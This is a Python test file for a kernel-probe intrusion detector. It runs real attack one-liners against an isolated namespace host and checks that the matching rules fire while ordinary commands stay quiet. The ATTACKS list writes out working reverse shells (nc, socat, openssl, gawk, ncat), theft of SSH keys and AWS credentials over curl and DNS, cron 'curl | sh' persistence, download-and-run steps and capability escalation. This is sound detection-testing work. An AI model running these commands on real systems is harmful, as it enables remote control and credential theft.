"""Issue 13's missed classes, live: each technique runs for real against an "outside" test host
in a network namespace of this machine, under the probes and the bundled rules, and must raise
its family's rule; the trace recorded from the same run must raise the same alerts on replay.
The ordinary work the old rules alerted on runs the same way and must raise nothing.

The probes are loaded once for the module, watching a parent cgroup; every case runs in a
child cgroup of its own, and its events (routed by leaf cgroup id) feed its own rule engine
and its own trace.
"""

from __future__ import annotations

import os
import secrets
import shutil
import subprocess
import sys
import time
from collections import Counter
from pathlib import Path

import pytest

from coi_sentinel.probes.cgroups import WorkloadCgroup, cgroup_id

from support import require_bpf

pytestmark = pytest.mark.bpf

TESTHOST = Path(__file__).resolve().parents[2] / "rules" / "tests" / "helpers" / "testhost.py"
PORTS = (80, 443, 1337, 8443)


class Host:
    """The attacker: helpers/testhost.py in a network namespace joined by a veth pair, on a
    /30 of the benchmarking range 198.18.0.0/15 (no route leaves the pair)."""

    def __init__(self, www: Path) -> None:
        tag = secrets.token_hex(3)
        third = 210 + secrets.randbelow(40)
        self.ns, self.veth, self.peer = f"coi-dt-{tag}", f"cdt{tag}h", f"cdt{tag}n"
        self.local, self.addr = f"198.18.{third}.1", f"198.18.{third}.2"
        self.proc: subprocess.Popen | None = None
        ip = ["ip"]
        nsx = ["ip", "netns", "exec", self.ns]
        for argv in (ip + ["netns", "add", self.ns],
                     ip + ["link", "add", self.veth, "type", "veth", "peer", "name", self.peer],
                     ip + ["link", "set", self.peer, "netns", self.ns],
                     ip + ["addr", "add", f"{self.local}/30", "dev", self.veth],
                     ip + ["link", "set", self.veth, "up"],
                     nsx + ["ip", "addr", "add", f"{self.addr}/30", "dev", self.peer],
                     nsx + ["ip", "link", "set", self.peer, "up"],
                     nsx + ["ip", "link", "set", "lo", "up"]):
            subprocess.run(argv, check=True, capture_output=True)
        self.proc = subprocess.Popen(nsx + [sys.executable, str(TESTHOST), "--www", str(www),
                                            *map(str, PORTS)], stdout=subprocess.PIPE, text=True)
        assert self.proc.stdout is not None and self.proc.stdout.readline().strip() == "ready"

    def dial(self, port: int) -> subprocess.Popen:
        return subprocess.Popen(["ip", "netns", "exec", self.ns, sys.executable, str(TESTHOST),
                                 "--dial", self.local, str(port)],
                                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

    def close(self) -> None:
        if self.proc is not None:
            self.proc.terminate()
            try:
                self.proc.wait(timeout=5)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait()
        subprocess.run(["ip", "link", "del", self.veth], capture_output=True)
        subprocess.run(["ip", "netns", "del", self.ns], capture_output=True)


class Lab:
    """One probe load for the module; a child cgroup, an engine and a trace per case."""

    def __init__(self, parent: WorkloadCgroup, host: Host, root: Path) -> None:
        from coi_sentinel.monitor import Monitor, MonitorOptions
        from coi_sentinel.rules import load_ruleset

        self.ruleset = load_ruleset(None)
        self.parent, self.host, self.root = parent, host, root
        self.mon = Monitor(MonitorOptions(
            cgroups=(str(parent.path),), kind="record",
            sensitive_prefixes=tuple(self.ruleset.sensitive_prefixes()),
            sensitive_suffixes=tuple(self.ruleset.sensitive_suffixes())))
        self.mon.start()
        self.routes: dict[int, tuple] = {}
        self.mon.pipeline.add_sink(self._route)

    def _route(self, ev, _proc) -> None:
        target = self.routes.get(ev.cgroup_id)
        if target is not None:
            engine, writer = target
            writer.write_event(ev)
            engine.feed(ev)

    def run(self, name: str, script: str, *, home: Path, cwd: Path, dial: int | None = None,
            timeout: float = 60) -> tuple[Counter, Counter, str]:
        """Run ``bash -c script`` in a cgroup of its own: (live alerts, replayed alerts, output)."""
        from coi_sentinel.replay import replay
        from coi_sentinel.rules import Engine
        from coi_sentinel.trace.format import make_header
        from coi_sentinel.trace.writer import TraceWriter

        child = self.parent.path / name
        child.mkdir()
        trace = self.root / f"{name}.jsonl.gz"
        alerts: list = []
        engine = Engine(self.ruleset, on_alert=alerts.append)
        writer = TraceWriter(str(trace), make_header("record", command=["bash", "-c", script]),
                             overwrite=True)
        self.routes[cgroup_id(child)] = (engine, writer)
        procs = child / "cgroup.procs"

        def enter() -> None:
            with open(procs, "w") as f:
                f.write(str(os.getpid()))

        env = {"PATH": "/usr/local/bin:/usr/bin:/bin:/usr/local/sbin:/usr/sbin:/sbin",
               "HOME": str(home), "LANG": "C.UTF-8", "HOST": self.host.addr,
               "LOCAL": self.host.local, "ATK": f"http://{self.host.addr}:80",
               "npm_config_offline": "true", "npm_config_update_notifier": "false",
               "GIT_CONFIG_NOSYSTEM": "1"}
        try:
            p = subprocess.Popen(["/bin/bash", "-c", script], cwd=cwd, env=env,
                                 stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                                 stderr=subprocess.STDOUT, preexec_fn=enter)
            dialer = self.host.dial(dial) if dial else None
            deadline = time.monotonic() + timeout
            while time.monotonic() < deadline:
                self.mon.poll(10)
                if p.poll() is not None and not procs.read_text().split():
                    break
            else:
                (child / "cgroup.kill").write_text("1\n")
                pytest.fail(f"{name}: still running after {timeout} s")
            out = p.stdout.read().decode(errors="replace") if p.stdout else ""
            if dialer is not None:
                dialer.wait(timeout=20)
            end = time.monotonic() + 1.0
            while time.monotonic() < end:           # the exits' late summaries
                self.mon.poll(20)
            self.mon.stream.drain()
        finally:
            del self.routes[cgroup_id(child)]
            writer.close({"events": 0})
            for _ in range(50):
                try:
                    child.rmdir()
                    break
                except OSError:
                    time.sleep(0.1)
        live = Counter(a.rule for a in alerts)
        replayed = Counter(replay([trace], self.ruleset).by_rule)
        return live, replayed, out

    def family(self, rule: str) -> str:
        return Path(self.ruleset.rule(rule).rule.source.path).stem

    def close(self) -> None:
        self.mon.close()


@pytest.fixture(scope="module")
def lab(tmp_path_factory):
    require_bpf()
    if shutil.which("ip") is None:
        pytest.skip("needs the ip command (iproute2) for the test host's network namespace")
    root = tmp_path_factory.mktemp("detection")
    www = root / "www"
    www.mkdir()
    shutil.copy("/bin/true", www / "tool")
    (www / "run.sh").write_text("#!/bin/sh\necho payload ran\n")
    host = Host(www)
    try:
        with WorkloadCgroup("coi-detect") as parent:
            lb = Lab(parent, host, root)
            try:
                yield lb
            finally:
                lb.close()
    finally:
        host.close()


@pytest.fixture
def home(tmp_path):
    """A fake home with fake secrets, and a small git project in it."""
    files = {
        ".ssh/id_ed25519": "-----BEGIN OPENSSH PRIVATE KEY-----\nfake\n-----END OPENSSH PRIVATE KEY-----\n",
        ".aws/credentials": "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n",
        ".npmrc": "//registry.npmjs.org/:_authToken=npm_FakeLiveTestToken\n",
        "project/README.md": "# project\n",
        "project/.env.test": "API_KEY=test\n",
        "project/.env.example": "API_KEY=\n",
        "project/.github/workflows/ci.yml": "on: push\n",
    }
    for rel, text in files.items():
        p = tmp_path / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text(text)
    env = {**os.environ, "HOME": str(tmp_path), "GIT_CONFIG_NOSYSTEM": "1"}
    proj = tmp_path / "project"
    for argv in (["git", "init", "-q"], ["git", "add", "-A"],
                 ["git", "-c", "user.name=a", "-c", "user.email=a@b", "commit", "-qm", "init"]):
        subprocess.run(argv, cwd=proj, env=env, check=True)
    return tmp_path


def needs(*programs: str) -> None:
    missing = [p for p in programs if shutil.which(p) is None]
    if missing:
        pytest.skip(f"needs {', '.join(missing)} (scripts/setup.sh corpus)")


# (name, programs, script, the family whose rule must fire, dial port)
ATTACKS = [
    ("nc_fifo_relay", ("nc", "mkfifo"),
     "rm -f f; mkfifo f; cat f | /bin/sh -i 2>&1 | timeout 20 nc -N $HOST 443 > f; rm -f f",
     "reverse_shell", None),
    ("socat_pty", ("socat",),
     "timeout 20 socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:$HOST:443 || true",
     "reverse_shell", None),
    ("openssl_relay", ("openssl", "mkfifo"),
     "rm -f s; mkfifo s; /bin/sh -i < s 2>&1 | timeout 10 openssl s_client -quiet -connect $HOST:8443 "
     "> s 2>/dev/null || true; rm -f s",
     "reverse_shell", None),
    ("gawk_inet", ("gawk",),
     "timeout 20 gawk -v H=$HOST 'BEGIN { s = \"/inet/tcp/0/\" H \"/1337\"; while (1) { printf \"> \" |& s; "
     "if ((s |& getline c) <= 0) break; if (c == \"exit\") break; "
     "while (c && (c |& getline) > 0) print $0 |& s; close(c) } }' || true",
     "reverse_shell", None),
    ("bind_ncat", ("ncat",), "timeout 20 ncat -l $LOCAL 7101 -e /bin/sh || true",
     "reverse_shell", 7101),
    ("proc_mem_read", (),
     "sleep 20 & pid=$!; sleep 0.3; start=$(awk '/\\[stack\\]/ {split($1, a, \"-\"); print a[1]}' "
     "/proc/$pid/maps); dd if=/proc/$pid/mem bs=4096 skip=$(( 0x$start / 4096 )) count=1 status=none "
     "| wc -c; kill $pid",
     "credentials", None),
    ("curl_einprogress_exfil", ("curl",),
     "curl -sS -m 5 -o /dev/null --data-binary @$HOME/.ssh/id_ed25519 http://$HOST:443/k",
     "exfiltration", None),
    ("dns_encoded_labels", ("dig", "xxd"),
     "for c in $(xxd -p -c 30 ~/.aws/credentials); do dig +short +tries=1 +time=1 @$HOST $c.x.test "
     "> /dev/null || true; done",
     "exfiltration", None),
    ("crontab_pipe", ("crontab",),
     # root's own crontab, if any, is put back
     "crontab -l > saved 2>/dev/null || true; "
     "echo '*/5 * * * * curl -s http://198.18.0.2/c | sh' | crontab -; "
     "if [ -s saved ]; then crontab saved; else crontab -r; fi",
     "persistence", None),
    ("curl_pipe_sh", ("curl",), "curl -sSf $ATK/run.sh | sh", "execution", None),
    ("wget_chmod_exec", ("wget",), "wget -q -O upd $ATK/tool && chmod +x upd && ./upd",
     "execution", None),
    ("base64_pipe_sh", (), "echo ZWNobyBkZWNvZGVkCg== | base64 -d | sh", "execution", None),
    ("setcap_setuid", ("setcap",), "cp /usr/bin/true t && setcap cap_setuid+ep t; rm -f t",
     "escalation", None),
    ("insmod_attempt", ("insmod",), "head -c 512 /dev/urandom > m.ko; insmod ./m.ko 2>/dev/null || true",
     "escalation", None),
]


@pytest.mark.parametrize("name, programs, script, family, dial", ATTACKS, ids=[a[0] for a in ATTACKS])
def test_missed_class_is_caught_live_and_in_its_trace(lab, home, name, programs, script, family, dial):
    """A rule of the technique's family fires (which one may depend on the order two ring
    buffers deliver events in: socat's connect and its fork, for one), and the trace of the
    run raises exactly what the live engine raised."""
    needs(*programs)
    work = home / "work"
    work.mkdir()
    live, replayed, out = lab.run(name, script, home=home, cwd=work, dial=dial)
    assert {lab.family(r) for r in live} & {family}, (dict(live), out[-2000:])
    assert replayed == live


BENIGN = [
    ("npm_reads_npmrc", ("npm",), "npm config list > /dev/null"),
    ("cp_r_repository", (), "cp -r ~/project /tmp/$$-copy && rm -rf /tmp/$$-copy"),
    ("git_c_hookspath_devnull", ("git",),
     "cd ~/project && echo x >> README.md && git add README.md && "
     "git -c core.hooksPath=/dev/null -c user.name=a -c user.email=a@b commit -qm x"),
    ("env_test_and_example", (), "cat ~/project/.env.test ~/project/.env.example > /dev/null"),
    ("venv_in_tmp", (), f"{sys.executable} -m venv --without-pip /tmp/$$-venv && "
                        "/tmp/$$-venv/bin/python -c 'print(1)'; rm -rf /tmp/$$-venv"),
    ("ps_and_top", (), "ps -e > /dev/null; ps auxe > /dev/null; top -b -n 1 > /dev/null"),
]


@pytest.mark.parametrize("name, programs, script", BENIGN, ids=[b[0] for b in BENIGN])
def test_ordinary_work_raises_nothing(lab, home, name, programs, script):
    needs(*programs)
    live, replayed, out = lab.run(name, script, home=home, cwd=home)
    assert live == Counter() and replayed == Counter(), (dict(live), out[-2000:])
